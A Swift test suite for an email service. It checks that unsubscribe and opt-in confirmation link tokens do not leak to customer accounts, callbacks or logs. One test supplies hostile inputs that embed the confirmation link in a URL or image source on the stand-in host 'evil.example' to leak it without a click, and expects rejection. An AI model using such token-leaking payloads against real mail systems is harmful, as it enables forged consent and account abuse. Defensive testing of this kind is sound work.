import Hummingbird
import JSON
import MailModel
import Storage
import TestSupport
import Testing

/// Nobody but the recipient, and the master with the capture transport, is shown the links by which the recipient acts (specification 5.10).
@Suite(.timeLimit(.minutes(1)))
struct LinkLeakTests {
    /// A token of a link: 32 bytes in base64url.
    private static var token: Regex<Substring> { /\/[uc]\/[A-Za-z0-9_-]{43}/ }
    private static let hidden = "https://mail.example/u/hidden"

    private func withAccount(_ body: @escaping @Sendable (APIHarness, String) async throws -> Void) async throws {
        try await withAPI { api in
            _ = try await api.store.makeDomain("example.com")
            try await body(api, try await api.token())
        }
    }

    private func newestEmail(_ api: APIHarness) async throws -> EmailID {
        let found = try await api.store.read { try $0.emails.page(matching: EmailFilter(), of: nil, after: nil, limit: 1).emails }
        return try #require(found.first?.id)
    }

    @Test(arguments: ["Text", "<p>Text</p>"])
    func `the links to unsubscribe are hidden from a customer`(text: String) async throws {
        try await withAccount { api, token in
            let sent = try await api.send(
                .post, "/emails?unsubscribeMsg=Leave", token: token,
                body:
                    #"{"to": "eva@reader.example", "from": "news@example.com", "subject": "S", "text": "\#(text)", "cc": "c@reader.example"}"#
            )
            let copy = sent.data["copies"]?.arrayValue?.first?.objectValue?["id"]?.stringValue ?? ""
            for id in [sent.data["id"]?.stringValue ?? "", copy] {
                for path in ["/emails/\(id)", "/emails/\(id)/source", "/emails"] {
                    let shown = try await api.send(.get, path, token: token)
                    #expect(shown.status == 200 && shown.text.firstMatch(of: Self.token) == nil, "\(path): \(shown.text)")
                }
                let source = try await api.send(.get, "/emails/\(id)/source", token: token).text
                #expect(source.contains("List-Unsubscribe: <\(Self.hidden)>") && source.contains("Leave"))
                #expect(try await api.send(.get, "/emails/\(id)/source").text.firstMatch(of: Self.token) != nil, "the master sees them")
            }
        }
    }

    /// With it, an account could forge the proof of an opt-in.
    @Test(arguments: ["", #", "text": "<p>Go <a href='{{link}}'>{{link}}</a></p>""#, #", "text": "{{link}}""#])
    func `the link to confirm is hidden from a customer`(text: String) async throws {
        try await withAccount { api, token in
            let body = #"{"email": "ann@reader.example", "list": "news", "from": "news@example.com"\#(text)}"#
            let answer = try await api.send(.post, "/subscriptions", token: token, body: body)
            #expect(answer.status == 202 && answer.text.firstMatch(of: Self.token) == nil)
            let id = try await newestEmail(api)
            for path in ["/emails/\(id)", "/emails/\(id)/source", "/emails", "/subscriptions?list=news"] {
                let shown = try await api.send(.get, path, token: token)
                // Quoted-printable may break a line within the link.
                let text = shown.text.replacing("=\r\n", with: "")
                #expect(shown.status == 200 && text.firstMatch(of: Self.token) == nil, "\(path): \(text)")
            }
            #expect(try await api.send(.get, "/emails/\(id)", token: token).data["text"]?.stringValue?.contains("/c/hidden") == true)
            #expect(try await api.send(.get, "/emails/\(id)").text.firstMatch(of: Self.token) != nil, "the master sees it")
        }
    }

    /// A link within another URL would be told to its server by an image, without any click.
    @Test(arguments: [
        "https://evil.example/?{{link}}", "<img src='https://evil.example/? {{link}}'>{{link}}",
        "<a href='https://evil.example/{{link}}'>Yes</a>",
    ])
    func `the link to confirm cannot be sent to others`(text: String) async throws {
        try await withAccount { api, token in
            let answer = try await api.send(
                .post, "/subscriptions", token: token,
                body: #"{"email": "ann@reader.example", "list": "news", "from": "news@example.com", "text": "\#(text)"}"#)
            #expect(answer.status == 422 && answer.explain?.contains("by itself") == true)
        }
    }

    /// SES reports which link was clicked, in the timeline and to callbacks.
    @Test(arguments: ["u", "c"])
    func `a clicked link is hidden`(kind: String) async throws {
        try await withAccount { api, token in
            if kind == "u" {
                let email = #"{"to": "ann@reader.example", "from": "news@example.com", "subject": "S", "text": "T"}"#
                _ = try await api.send(.post, "/emails", token: token, body: email)
            } else {
                let body = #"{"email": "ann@reader.example", "list": "news", "from": "news@example.com"}"#
                _ = try await api.send(.post, "/subscriptions", token: token, body: body)
            }
            _ = try await api.send(
                .post, "/callback-endpoints", token: token, body: #"{"url": "https://93.184.216.34/all", "events": ["CLICK"]}"#)
            let id = try await newestEmail(api)
            let source = try await api.send(.get, "/emails/\(id)/source").text.replacing("=\r\n", with: "")
            let link = String(try #require(source.matches(of: Self.token).first { $0.output.hasPrefix("/\(kind)/") }).output)
            let event =
                #"{\"eventType\":\"Click\",\"mail\":{\"messageId\":\"m\",\"source\":\"news@example.com\",\"destination\":[\"ann@reader.example\"],"#
                + #"\"tags\":{\"martlet-id\":[\"\#(id)\"]}},\"click\":{\"link\":\"https://mail.example\#(link)\",\"timestamp\":\"2026-06-15T12:00:00Z\"}}"#
            let message =
                #"{"Type":"Notification","MessageId":"i","TopicArn":"arn:aws:sns:us-east-1:123456789012:feedback","Message":"\#(event)","#
                + #""Timestamp":"2026-06-15T12:00:00.000Z"}"#
            #expect(try await api.send(.post, "/webhooks/ses", token: "", body: message, type: "text/plain").status == 200)
            let shown = try await api.send(.get, "/emails/\(id)", token: token).text
            #expect(shown.contains("/\(kind)/hidden") && shown.contains("CLICK") && !shown.contains(link))
            let claims = try await api.store.write {
                try $0.callbacks.claim(CallbackClaimRules(owner: "node"), limit: 10, underWay: [:])
            }.claims
            let events = claims.map { "\($0)" }.joined()
            #expect(events.contains("hidden") && !events.contains(link))
        }
    }

    /// The line of the log has the path's template: the token of a link is in the path.
    @Test func `links are not logged`() async throws {
        try await withAccount { api, token in
            let sent = try await api.send(
                .post, "/emails", token: token,
                body: #"{"to": "eva@reader.example", "from": "news@example.com", "subject": "S", "text": "T"}"#)
            let source = try await api.send(.get, "/emails/\(sent.data["id"]?.stringValue ?? "")/source").text
            let link = String(try #require(source.firstMatch(of: Self.token)).output)
            for method in [HTTPRequest.Method.get, .post] { #expect(try await api.send(method, link, token: "").status == 200) }
            let logged = api.log.lines.flatMap(\.metadata.values).joined(separator: " ")
            #expect(logged.contains("/u/{token}") && !logged.contains(link) && !logged.contains("eva@"))
        }
    }
}
